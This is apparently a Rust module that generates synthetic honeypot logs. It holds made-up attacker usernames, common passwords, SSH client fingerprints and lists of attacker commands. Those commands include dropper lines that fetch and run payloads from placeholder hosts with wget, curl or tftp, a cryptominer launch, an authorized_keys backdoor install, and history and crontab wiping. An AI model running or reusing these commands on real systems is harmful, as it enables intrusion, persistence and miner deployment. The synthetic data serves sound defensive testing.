//! What simulated attackers say: names, passwords, client software, commands.
//!
//! All of it was made up for this program after studying how real logs are distributed; nothing is copied from one. Hosts are from the
//! ranges reserved for documentation (RFC 5737, RFC 3849, RFC 6761), so that nobody who acts on a simulated indicator harms anyone.
use super::random::mix;
use std::io::Write as _;

pub const USERNAMES: &[&str] = &[
    "root",
    "admin",
    "user",
    "ubuntu",
    "test",
    "oracle",
    "postgres",
    "git",
    "pi",
    "guest",
    "deploy",
    "ftpuser",
    "mysql",
    "debian",
    "dev",
    "support",
    "hadoop",
    "jenkins",
    "ec2-user",
    "www-data",
    "minecraft",
    "steam",
    "tomcat",
    "ansible",
    "docker",
    "elastic",
    "nagios",
    "backup",
    "operator",
    "validator",
    "node",
    "miner",
    "trader",
    "gitlab",
    "grafana",
    "zabbix",
    "vagrant",
    "odoo",
    "weblogic",
    "centos",
    "ubnt",
    "sysadmin",
    "administrator",
    "student",
    "demo",
    "web",
    "www",
    "ftp",
    "mail",
    "service",
    "default",
    "tech",
    "cisco",
    "camera",
    "dvr",
    "",
    "nobody",
    "developer",
    "esuser",
    "kafka",
    "redis",
    "mongo",
    "nginx",
    "teamspeak",
    "factorio",
    "palworld",
    "vpn",
    "openvpn",
    "squid",
    "asterisk",
    "sip",
];

pub const PASSWORDS: &[&str] = &[
    "123456",
    "admin",
    "password",
    "root",
    "1234",
    "12345678",
    "12345",
    "123",
    "qwerty",
    "111111",
    "ubuntu",
    "test",
    "123456789",
    "user",
    "P@ssw0rd",
    "toor",
    "changeme",
    "1",
    "000000",
    "abc123",
    "pass",
    "letmein",
    "raspberry",
    "admin123",
    "root123",
    "guest",
    "welcome1",
    "qwe123",
    "",
    "1q2w3e4r",
    "Passw0rd!",
    "test123",
    "oracle",
    "postgres",
    "deploy",
    "123123",
    "654321",
    "dragon",
    "iloveyou",
    "monkey",
    "master",
    "support",
    "ubnt",
    "service",
    "system",
    "vizxv",
    "juantech",
    "klv123",
    "hi3518",
    "default",
    "7ujMko0admin",
    "server",
    "linux",
    "cloud",
    "honeypot",
    "Aa123456",
    "!QAZ2wsx",
    "zaq12wsx",
    "q1w2e3r4t5",
    "p@55w0rd",
    "a\\b\\c",
    "pa\"ss",
    "пароль",
    "contraseña",
    "密码123",
    "mot de passe",
];

/// Passwords beyond the list are one of these, a separator and a number: a tail without end, as real dictionaries have.
const PASSWORD_STEMS: &[&str] = &[
    "summer", "winter", "spring", "autumn", "server", "cloud", "admin", "root", "secret", "falcon", "tiger", "dragon", "hunter", "silver",
    "matrix", "galaxy", "rocket", "shadow", "coffee", "pepper", "orange", "violet", "cobalt", "granite", "harbor", "meadow", "quartz",
    "ridge", "saffron", "timber", "umbra", "vertex", "willow", "xenon", "yonder", "zephyr", "basalt", "cinder", "delta", "ember", "fjord",
    "glacier",
];
const PASSWORD_JOINTS: &[&str] = &["", "@", "_", "!", ".", "#", "-", "$"];

/// A kind of client: its version string and what it offers in the key exchange.
pub struct Client {
    pub version: &'static str,
    pub kex: &'static [&'static str],
    pub keys: &'static [&'static str],
    pub ciphers: &'static [&'static str],
    pub macs: &'static [&'static str],
    pub compression: &'static [&'static str],
    /// Relative frequency.
    pub weight: f64,
}

const KEX_MODERN: &[&str] = &[
    "mlkem768x25519-sha256",
    "curve25519-sha256",
    "curve25519-sha256@libssh.org",
    "ecdh-sha2-nistp256",
    "ecdh-sha2-nistp384",
    "ecdh-sha2-nistp521",
    "diffie-hellman-group14-sha256",
    "ext-info-c",
];
const KEX_LIBRARY: &[&str] = &[
    "curve25519-sha256",
    "curve25519-sha256@libssh.org",
    "ecdh-sha2-nistp256",
    "ecdh-sha2-nistp384",
    "diffie-hellman-group16-sha512",
    "diffie-hellman-group14-sha256",
    "diffie-hellman-group-exchange-sha256",
    "ext-info-c",
];
const KEX_OLD: &[&str] = &["diffie-hellman-group-exchange-sha1", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"];
const KEYS_MODERN: &[&str] = &["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ssh-rsa"];
const KEYS_OLD: &[&str] = &["ssh-rsa", "ssh-dss"];
const CIPHERS_MODERN: &[&str] =
    &["chacha20-poly1305@openssh.com", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr"];
const CIPHERS_OLD: &[&str] = &["aes128-ctr", "aes256-ctr", "aes256-cbc", "aes128-cbc", "blowfish-cbc", "arcfour", "3des-cbc"];
const MACS_MODERN: &[&str] =
    &["hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"];
const MACS_OLD: &[&str] = &["hmac-sha1", "hmac-sha1-96", "hmac-md5", "hmac-md5-96", "hmac-ripemd160"];
const NONE: &[&str] = &["none"];
const ZLIB: &[&str] = &["none", "zlib@openssh.com", "zlib"];

macro_rules! client {
    ($version:literal, $kex:ident, $keys:ident, $ciphers:ident, $macs:ident, $compression:ident, $weight:literal) => {
        Client { version: $version, kex: $kex, keys: $keys, ciphers: $ciphers, macs: $macs, compression: $compression, weight: $weight }
    };
}

pub const CLIENTS: &[Client] = &[
    client!("SSH-2.0-Go", KEX_MODERN, KEYS_MODERN, CIPHERS_MODERN, MACS_MODERN, NONE, 58.0),
    client!("SSH-2.0-libssh_0.11.1", KEX_LIBRARY, KEYS_MODERN, CIPHERS_MODERN, MACS_MODERN, NONE, 8.0),
    client!("SSH-2.0-AsyncSSH_2.14.2", KEX_LIBRARY, KEYS_MODERN, CIPHERS_MODERN, MACS_MODERN, ZLIB, 7.0),
    client!("SSH-2.0-libssh2_1.11.0", KEX_LIBRARY, KEYS_OLD, CIPHERS_OLD, MACS_MODERN, NONE, 6.0),
    client!("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", KEX_MODERN, KEYS_MODERN, CIPHERS_MODERN, MACS_MODERN, ZLIB, 6.0),
    client!("SSH-2.0-paramiko_3.4.0", KEX_LIBRARY, KEYS_MODERN, CIPHERS_OLD, MACS_MODERN, NONE, 4.0),
    client!("SSH-2.0-PUTTY", KEX_OLD, KEYS_OLD, CIPHERS_OLD, MACS_OLD, ZLIB, 3.0),
    client!("SSH-2.0-libssh2_1.4.3", KEX_OLD, KEYS_OLD, CIPHERS_OLD, MACS_OLD, NONE, 3.0),
    client!("SSH-2.0-JSCH-0.2.17", KEX_LIBRARY, KEYS_MODERN, CIPHERS_OLD, MACS_OLD, ZLIB, 1.5),
    client!("SSH-2.0-OpenSSH_7.4", KEX_LIBRARY, KEYS_OLD, CIPHERS_MODERN, MACS_OLD, ZLIB, 1.5),
    client!("SSH-2.0-ZGrab ZGrab SSH Survey", KEX_LIBRARY, KEYS_MODERN, CIPHERS_MODERN, MACS_MODERN, NONE, 1.0),
    client!("SSH-2.0-sshlib-0.1", KEX_OLD, KEYS_OLD, CIPHERS_OLD, MACS_OLD, NONE, 1.0),
    client!("SSH-2.0-dropbear_2022.83", KEX_LIBRARY, KEYS_MODERN, CIPHERS_OLD, MACS_MODERN, NONE, 0.5),
];

/// What port scanners send instead of an SSH version; Cowrie logs it all the same.
pub const ALIEN_VERSIONS: &[&str] = &[
    "GET / HTTP/1.1",
    "\u{16}\u{3}\u{1}\u{0}\u{ee}\u{1}\u{0}\u{0}\u{ea}\u{3}\u{3}",
    "OPTIONS rtsp://0.0.0.0 RTSP/1.0",
    "HELP",
    "MGLNDD_22",
    "*1\\r\\n$4\\r\\nPING",
];

/// Commands of robots: each inner list is one login's work, one `exec` channel per command. `{host}` and `{file}` are filled in.
pub const ROBOT_SCRIPTS: &[&[&str]] = &[
    &["uname -s -m -r"],
    &["uname -a"],
    &["echo -e \"\\x6c\\x69\\x76\\x65\""],
    &["whoami; id; nproc; uptime -p"],
    &["cat /proc/cpuinfo | grep 'model name' | sort -u; free -m; df -h /"],
    &["lspci | grep -i -E 'vga|3d|nvidia'; nproc --all"],
    &["hostname; echo ---; uname -a; echo ---; id; echo ---; ls -la /; ps aux | head -20; ss -tlnp | head; tail -5 ~/.bash_history"],
    &["export LC_ALL=C; arch=$(uname -m); os=$(. /etc/os-release 2>/dev/null; echo \"$ID $VERSION_ID\"); mem=$(awk '/MemTotal/{print \
         $2}' /proc/meminfo); echo \"$arch|$os|$mem\""],
    &["/system resource print", "ip addr show", "cat /etc/issue", "pgrep -fa miner", "ls -la ~/.config ~/.mozilla", "getent hosts {host}"],
    &["for d in /tmp /var/tmp /dev/shm \"$HOME\"; do t=\"$d/.p$$\"; echo ok > \"$t\" 2>/dev/null && rm -f \"$t\" && echo \"$d\"; done"],
    &["ps -ef | grep -v grep | grep -E 'xmrig|kinsing|kdevtmpfsi' | awk '{print $2}' | xargs -r kill -9"],
    &["crontab -l 2>/dev/null | grep -v {host} | crontab -", "history -c"],
    &["dmidecode -s system-product-name; systemd-detect-virt; cat /sys/class/dmi/id/sys_vendor"],
    &["cat /etc/passwd | wc -l; last -n 3; w"],
];

/// Commands that fetch something; followed by downloads or uploads of `{file}` from `{host}`.
pub const DROPPER_SCRIPTS: &[&str] = &[
    "cd /tmp || cd /var/tmp || cd /dev/shm; wget -q http://{host}/{file} || curl -fsO http://{host}/{file}; chmod +x {file}; ./{file}; \
     rm -f {file}",
    "curl -fsSL http://{host}/bins/{file} | sh",
    "cd /tmp; for a in x86_64 arm7 mips mpsl; do wget http://{host}/d/{file}.$a -O .{file}; chmod 777 .{file}; ./.{file} ssh.$a; done",
    "nohup bash -c \"(wget -qO- http://{host}:8080/{file} || busybox wget -qO- http://{host}:8080/{file}) | bash\" >/dev/null 2>&1 &",
    "cd /tmp; tftp -g -r {file} {host}; sh {file}; busybox tftp -g -r {file} {host}",
    "scp -t /tmp/{file}; chmod 755 /tmp/{file}; /tmp/{file} -o stratum+tcp://pool.{host}:3333 -k",
];

/// The two-step key installation every honeypot sees.
pub const KEY_INSTALL_UNLOCK: &str = "cd ~ && chattr -R -ia .ssh 2>/dev/null; lsattr -d .ssh";
pub const KEY_INSTALL_UNKNOWN: &str = "lsattr -d .ssh";
pub const KEY_INSTALL: &str = "mkdir -p ~/.ssh && echo \"ssh-rsa \
    AAAAB3NzaC1yc2EAAAADAQABAAABgQC7simulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimulatedkeysimu\
    latedkey0000= ops@example\" > ~/.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~";

/// What people type when they believe they are in.
pub const TYPED: &[&str] = &[
    "ls",
    "ls -la",
    "pwd",
    "whoami",
    "id",
    "w",
    "uname -a",
    "cat /etc/passwd",
    "cd /tmp",
    "cd /",
    "ps aux",
    "ifconfig",
    "ip a",
    "netstat -antp",
    "history",
    "free -h",
    "df -h",
    "top",
    "exit",
    "sudo su",
    "passwd",
    "cat /etc/os-release",
    "apt update",
    "python3 --version",
    "which gcc",
    "ls /home",
    "cat .bash_history",
    "nano x.sh",
    "clear",
    "last",
    "uptime",
    "docker ps",
    "wget",
    "curl ifconfig.example",
    "crontab -l",
    "",
    "help",
    "sl",
    "cat /proc/meminfo",
    "echo $SHELL",
    "env",
    "mount",
    "lscpu",
    "cd ..",
    "rm -rf x.sh",
    "find / -name id_rsa 2>/dev/null",
    "vim",
    "ssh localhost",
];

/// What a loader of 2017 types into a telnet shell: (command line, the commands Cowrie found in it).
pub const LOADER_2017: &[(&str, &[&str])] = &[
    ("enable", &[]),
    ("system", &["system"]),
    ("shell", &["shell"]),
    ("sh", &["sh "]),
    ("/bin/busybox QRSTU", &["/bin/busybox QRSTU"]),
    ("cat /proc/mounts; /bin/busybox QRSTU", &["cat /proc/mounts", "/bin/busybox QRSTU"]),
    ("cd /dev/shm; cat .n || cp /bin/echo .n; /bin/busybox QRSTU", &["cd /dev/shm", "cat .n", "cp /bin/echo .n", "/bin/busybox QRSTU"]),
    ("rm /tmp/.n; rm /var/.n; rm /dev/.n", &["rm /tmp/.n", "rm /var/.n", "rm /dev/.n"]),
    ("/bin/busybox cat /bin/echo", &["/bin/busybox cat /bin/echo"]),
    ("/bin/busybox wget; /bin/busybox tftp; /bin/busybox QRSTU", &["/bin/busybox wget", "/bin/busybox tftp", "/bin/busybox QRSTU"]),
    ("/bin/busybox kill 4711", &["/bin/busybox kill 4711"]),
    ("dd bs=52 count=1 if=.n || cat .n", &["dd bs=52 count=1 if=.n", "cat .n"]),
];

/// Where tunnels are asked to lead: (host, port, what is sent through, as Python prints bytes).
pub const TUNNELS: &[(&str, u16, &str)] = &[
    ("whoami.example.com", 80, "b'GET /json HTTP/1.1\\r\\nHost: whoami.example.com\\r\\nAccept: */*\\r\\n\\r\\n'"),
    (
        "www.example.org",
        443,
        "b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\xd2\\x8b\\x11\\x0fN\\xa1(~\\x9e\\x07|\
         G\\x81\\xdb\\x1e\\x13\\x02\\x13\\x03\\x13\\x01\\xc0,\\xc00\\x00\\x9f'",
    ),
    ("smtp.example.net", 25, "b'EHLO mail.example.org\\r\\n'"),
    ("203.0.113.25", 587, "b'EHLO [192.0.2.77]\\r\\n'"),
    ("198.51.100.43", 443, "b'\\x16\\x03\\x03\\x00\\xb8\\x01\\x00\\x00\\xb4\\x03\\x03g\\x12'"),
    ("2001:db8::5:25", 443, "b'\\x16\\x03\\x01\\x00\\xee'"),
    ("api.example.com", 443, "b'\\x16\\x03\\x01\\x02\\x00\\x01'"),
    ("stun.example.net", 3478, "b'\\x00\\x01\\x00\\x00!\\x12\\xa4B'"),
    ("0.0.0.0", 0, "b''"),
];

/// Hosts and files that droppers fetch.
pub const DROP_HOSTS: &[&str] = &[
    "203.0.113.66",
    "198.51.100.9",
    "cdn.example.net",
    "192.0.2.180",
    "dl.example.org",
    "203.0.113.201",
    "[2001:db8:bad::1]",
    "files.invalid",
];
pub const DROP_FILES: &[&str] =
    &["bins.sh", "go", "kthreadd", "update", "x86_64", "logo.png", "sshd", "a.sh", "redtail", "miner.tgz", "load.sh", "i"];

pub const ENVIRONMENT: &[(&str, &str)] = &[("LANG", "en_US.UTF-8"), ("LC_CTYPE", "C.UTF-8"), ("LANG", "C"), ("TERM_PROGRAM", "tmux")];
pub const ARCHITECTURES: &[&str] = &["linux-x64-lsb", "linux-arm64-lsb", "linux-arm-lsb", "linux-mips-msb"];
pub const SENSORS: &[&str] = &["hive", "meadow", "clover", "thistle", "heather", "linden", "acacia", "sage"];
pub const CVES: &[&str] = &["CVE-2026-24061", "CVE-2020-10188"];

/// A list whose entries are stored as they stand inside a JSON string.
pub struct Escaped(Box<[Box<[u8]>]>);

impl Escaped {
    pub fn new<'a>(texts: impl IntoIterator<Item = &'a str>) -> Escaped {
        Escaped(texts.into_iter().map(escape).collect())
    }

    pub fn len(&self) -> u32 {
        self.0.len() as u32
    }

    #[inline]
    pub fn get(&self, index: u32) -> &[u8] {
        &self.0[index as usize % self.0.len()]
    }
}

/// `text` as it stands between the quotes of a JSON string.
pub fn escape(text: &str) -> Box<[u8]> {
    let quoted = serde_json::to_string(text).expect("a string is always JSON");
    quoted.as_bytes()[1..quoted.len() - 1].into()
}

/// User name number `index`: the list first, then names with a number.
#[inline]
pub fn push_username(out: &mut Vec<u8>, names: &Escaped, index: u32) {
    out.extend_from_slice(names.get(index));
    if index >= names.len() {
        let _ = write!(out, "{}", index / names.len());
    }
}

/// Password number `index`: the list first, then stems with numbers.
#[inline]
pub fn push_password(out: &mut Vec<u8>, passwords: &Escaped, index: u32) {
    match index.checked_sub(passwords.len()) {
        None => out.extend_from_slice(passwords.get(index)),
        Some(index) => {
            let bits = mix(u64::from(index));
            out.extend_from_slice(PASSWORD_STEMS[bits as usize % PASSWORD_STEMS.len()].as_bytes());
            out.extend_from_slice(PASSWORD_JOINTS[(bits >> 16) as usize % PASSWORD_JOINTS.len()].as_bytes());
            super::event::push_number(out, u64::from(index));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn passwords_beyond_the_list_are_all_different() {
        let list = Escaped::new(PASSWORDS.iter().copied());
        let mut seen = HashSet::new();
        for index in 0..20_000 {
            let mut text = Vec::new();
            push_password(&mut text, &list, index);
            let quoted = [b"\"".as_slice(), &text, b"\""].concat();
            assert!(seen.insert(serde_json::from_slice::<String>(&quoted).unwrap()), "{}", String::from_utf8_lossy(&text));
        }
    }

    #[test]
    fn every_client_offers_something_of_everything() {
        for client in CLIENTS {
            let lists = [client.kex, client.keys, client.ciphers, client.macs, client.compression];
            assert!(lists.iter().all(|list| !list.is_empty()) && client.weight > 0.0, "{}", client.version);
        }
    }
}
